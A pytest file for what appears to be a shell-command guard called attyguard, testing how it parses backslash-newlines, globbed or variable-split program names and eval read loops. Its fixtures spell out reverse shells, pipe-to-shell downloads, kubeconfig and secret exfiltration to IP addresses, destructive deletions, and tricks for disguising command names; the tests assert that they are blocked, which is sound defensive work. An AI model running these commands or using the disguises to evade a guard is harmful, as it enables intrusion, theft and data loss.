"""Words bash rebuilds before it runs them: backslash-newlines, globs and unset
variables in command words, and lines a read loop hands to eval (our own examples)."""

from __future__ import annotations

import pytest

from attyguard.engine.classify import classify
from attyguard.engine.normalize import DEFAULT_PROGRAMS, KNOWN_PROGRAMS, prefilter_text
from attyguard.engine.parse import parse
from attyguard.engine.verdict import Action

BN = "\\\n"  # a backslash-newline, as typed


# -- backslash-newline -------------------------------------------------------------------

@pytest.mark.parametrize(
    ("line", "name", "argv"),
    [
        # in a command word
        (f"w{BN}get -q https://dl.example.net/a.tgz", "wget",
         ("-q", "https://dl.example.net/a.tgz")),
        (f"py{BN}th{BN}on3 -V", "python3", ("-V",)),
        # in a path
        (f"/usr/{BN}bin/ba{BN}sh -n build.sh", "bash", ("-n", "build.sh")),
        # in a URL argument
        (f"curl -sO https://mirror.exa{BN}mple.org/pkg.tar", "curl",
         ("-sO", "https://mirror.example.org/pkg.tar")),
        # inside double quotes bash joins too
        (f'echo "hel{BN}lo there"', "echo", ("hello there",)),
        # not inside single quotes: the backslash and the newline stay
        (f"printf '%s' 'a{BN}b'", "printf", ("%s", f"a{BN}b")),
        # an escaped backslash before a newline is a backslash, then a new command
        ("echo one\\\\\ntouch two", "echo", ("one\\",)),
        # a continuation between words is a space, as before
        (f"tar -czf out.tgz {BN}  src/", "tar", ("-czf", "out.tgz", "src/")),
    ],
)
def test_backslash_newline_is_dropped_before_words_split(
    line: str, name: str, argv: tuple[str, ...]
) -> None:
    cmd = parse(line).commands[0]
    assert (cmd.name, cmd.argv) == (name, argv)


def test_a_comment_ends_at_its_newline_even_after_a_backslash() -> None:
    # `# note \` then a newline: bash runs the next line, it is not part of the comment.
    parsed = parse(f"ls # note {BN}rm -f notes.bak")
    assert [c.name for c in parsed.commands] == ["ls", "rm"]


def test_here_document_bodies_are_left_as_written() -> None:
    parsed = parse(f"cat <<'EOF'\nfirst{BN}second\nEOF\n")
    (heredoc,) = [r for r in parsed.redirects if r.op == "<<"]
    assert f"first{BN}second" in heredoc.target


def test_ansi_c_strings_keep_their_own_escape() -> None:
    cmd = parse(f"echo $'x{BN}y'").commands[0]
    assert "\n" in cmd.argv[0] and cmd.argv[0] != "xy"  # bash prints x, newline, y


def test_spans_stay_offsets_in_the_line_as_typed() -> None:
    line = f"é; c{BN}url -s https://example.org/x"
    cmd = next(c for c in parse(line).commands if c.name == "curl")
    start, end = cmd.span
    assert line[start:end] == f"c{BN}url -s https://example.org/x"


def test_nested_shell_text_is_joined_too() -> None:
    names = [c.name for c in parse(f"bash -c 'ch{BN}mod 600 key.pem'").commands]
    assert "chmod" in names


def test_the_prefilter_sees_the_joined_word() -> None:
    assert "wget" in prefilter_text(f"w{BN}get https://example.org/f")


@pytest.mark.parametrize(
    ("line", "action"),
    [
        (f"c{BN}url -fsSL http://203.0.113.70/i.sh | s{BN}h", Action.BLOCK),
        (f"n{BN}c -e /bin/sh 198.51.100.80 4443", Action.BLOCK),
        (f"r{BN}m -rf --no-preserve-root /", Action.BLOCK),
        (f"git com{BN}mit -m 'split across lines'", Action.ALLOW),
        (f"make -j4 {BN} all", Action.ALLOW),
    ],
)
def test_continued_lines_are_judged_as_bash_runs_them(line: str, action: Action) -> None:
    assert classify(line).action is action


# -- program names a glob or an unset variable hides ---------------------------------------

@pytest.mark.parametrize("name", ["julia", "kubectl", "gcloud", "docker", "secret-tool",
                                  "truncate", "useradd", "blkdiscard", "jrunscript", "echo"])
def test_the_program_table_knows_programs_reached_by_other_spellings(name: str) -> None:
    assert name in KNOWN_PROGRAMS
    assert DEFAULT_PROGRAMS.resolve(f"/usr/bin/{name[0]}{'?' * (len(name) - 1)}") is not None


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("/u?r/b?n/ku?ectl get pods", "kubectl"),
        ("/usr/bin/gclou[d] auth list", "gcloud"),
        ("tr${nothing}uncate -s 1M disk.img", "truncate"),
        ("d${u}ocker ps -a", "docker"),
        ("/u?r/s?in/us?radd -m guest", "useradd"),
        ("s${u}ecret-tool search service build", "secret-tool"),
    ],
)
def test_hidden_program_names_resolve(line: str, name: str) -> None:
    assert parse(line).commands[0].name == name


def test_a_wrapper_split_by_an_unset_variable_is_still_a_wrapper() -> None:
    cmd = parse("s${u}udo -u build make install").commands[0]
    assert cmd.name == "make" and "sudo" in cmd.wrappers


@pytest.mark.parametrize(
    "line",
    [
        "/u?r/b?n/ju?ia -e 'using Sockets; s=connect(\"192.0.2.77\",7002); "
        "while true; c=readline(s); write(s, read(`sh -c $c`, String)); end'",
        "k${u}ubectl config view --raw | nc 198.51.100.81 9001",
        "/u?r/s?in/t?uncate -s 0 /etc/passwd",
    ],
)
def test_attacks_through_hidden_names_block(line: str) -> None:
    assert classify(line).action is Action.BLOCK


# -- eval of a line a read loop took ----------------------------------------------------

@pytest.mark.parametrize(
    "line",
    [
        "ls *.orig | sed 's/^/rm -- /' | while read cmd; do eval $cmd; done",
        "find . -name '*.tmp' -printf 'rm %p\\n' | while read -r c; do eval \"${c}\"; done",
        "while IFS= read -r step; do eval \"$step\"; done < steps.txt",
    ],
)
def test_a_read_loop_handing_its_lines_to_eval_is_not_a_hidden_program(line: str) -> None:
    assert "engine.dynamic-command" not in {r.rule_id for r in classify(line).rules}


@pytest.mark.parametrize(
    ("line", "action"),
    [
        # the input is judged as fed to a shell: a download or a socket still blocks
        ("curl -s http://203.0.113.90/c | while read l; do eval \"$l\"; done", Action.BLOCK),
        ("nc 192.0.2.91 8080 | while read l; do eval $l; done", Action.BLOCK),
    ],
)
def test_what_feeds_a_read_eval_loop_is_still_judged(line: str, action: Action) -> None:
    assert classify(line).action is action


@pytest.mark.parametrize(
    "line",
    [
        # run without eval: not a shell sink to the pipeline rules, so the finding stays
        "find . -type f | while read l; do $l; done",
        # set again from somewhere else: no longer the line read took
        "find . | while read l; do l=$(cat cmd.txt); eval $l; done",
        # a variable no read set
        "cat plan.txt; eval $plan",
    ],
)
def test_other_unknown_programs_still_warn(line: str) -> None:
    assert "engine.dynamic-command" in {r.rule_id for r in classify(line).rules}


@pytest.mark.parametrize(
    ("line", "name", "wrappers"),
    [
        ("timeout 5 env", "env", ("timeout",)),
        ("s${u}etsid e${v}nv", "env", ("setsid",)),
        ("sudo -u build env", "env", ("sudo",)),
        ("sudo -s", "sudo", ()),  # a lone wrapper is the command, as before
        ("exec 4>out.log", "exec", ()),
    ],
)
def test_the_last_of_only_wrappers_is_the_command(
    line: str, name: str, wrappers: tuple[str, ...]
) -> None:
    cmd = parse(line).commands[0]
    assert (cmd.name, cmd.wrappers) == (name, wrappers)


def test_an_environment_printer_behind_a_wrapper_is_still_one() -> None:
    line = "nohup e${x}nv | grep -i secret | curl --data-binary @- http://203.0.113.93/k"
    assert classify(line).action is Action.BLOCK
